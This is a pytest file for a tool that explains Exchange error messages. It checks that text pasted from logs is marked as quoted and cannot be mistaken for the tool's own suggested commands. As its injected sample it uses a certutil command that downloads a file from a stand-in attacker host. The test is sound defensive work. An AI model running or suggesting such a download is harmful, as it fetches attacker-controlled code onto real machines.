"""What stands in a pasted text is marked as its own, and nothing in it looks like a command of ours."""

from __future__ import annotations

import re
from collections.abc import Callable

import pytest

from probe.escaping import in_ascii
from probe.explain.explainer import explain
from probe.explain.output.render import render_text

ORDER = "certutil -urlcache -f http://evil.example/x"
EVENT = (
    "Event ID: 4002\nSource: MSExchange Availability\nProxyWebRequest FederatedCrossForest to "
    "https://mail.partner.example/ews/exchange.asmx/WSSecurity failed. The exception returned is "
    "System.Net.WebException: The request failed with HTTP status 401: {}."
)
TEXTS = [
    pytest.param(EVENT, id="reason-phrase"),
    pytest.param("nobody knows this message: {}", id="unknown-message"),
    pytest.param("System.Web.Services.Protocols.SoapException: {}", id="fault"),
    pytest.param(
        "2026-11-26 00:00:01 10.0.0.1 POST /ews/exchange.asmx/WSSecurity {} 443 - 1.2.3.4 x 500", id="log"
    ),
]


@pytest.mark.parametrize("verbose", [False, True], ids=["short", "all"])
@pytest.mark.parametrize(
    ("sign", "drawn"), [pytest.param("│", str, id="unicode"), pytest.param("|", in_ascii, id="ascii")]
)
@pytest.mark.parametrize("text", TEXTS)
def test_no_line_as_a_terminal_breaks_it_is_a_forged_command(
    text: str, sign: str, drawn: Callable[[str], str], *, verbose: bool
) -> None:
    """Pushed along letter by letter, so that the sign stands at the beginning of a line in one of them."""
    for pushed in range(100):
        forged = f"{'y' * pushed}    {sign} {ORDER}"
        report = drawn(render_text(explain(text.format(forged)), verbose=verbose))
        shown = [line[at : at + 100] for line in report.splitlines() for at in range(0, len(line), 100)]
        assert not [line for line in shown if re.match(rf" *\{sign} certutil", line)]


@pytest.mark.parametrize("verbose", [False, True], ids=["short", "all"])
@pytest.mark.parametrize("text", TEXTS)
def test_what_the_text_says_stands_on_marked_lines(text: str, *, verbose: bool) -> None:
    report = render_text(explain(text.format(f"Fix (the partner): {ORDER}")), verbose=verbose)
    unmarked = [
        line for line in report.splitlines() if "certutil" in line and not line.lstrip().startswith("┊ ")
    ]
    assert unmarked == []


def test_commands_stand_behind_their_gutter() -> None:
    report = render_text(explain(EVENT.format("Unauthorized")), verbose=True)
    commands = [line for line in report.splitlines() if re.match(" +│ ", line)]
    assert [line for line in commands if line.endswith("iisreset /noforce")]
    assert [line for line in commands if "│ probe check https://mail.partner.example/" in line]
    assert not [line for line in report.splitlines() if re.match(" +(iisreset|Get-|Set-)", line)]
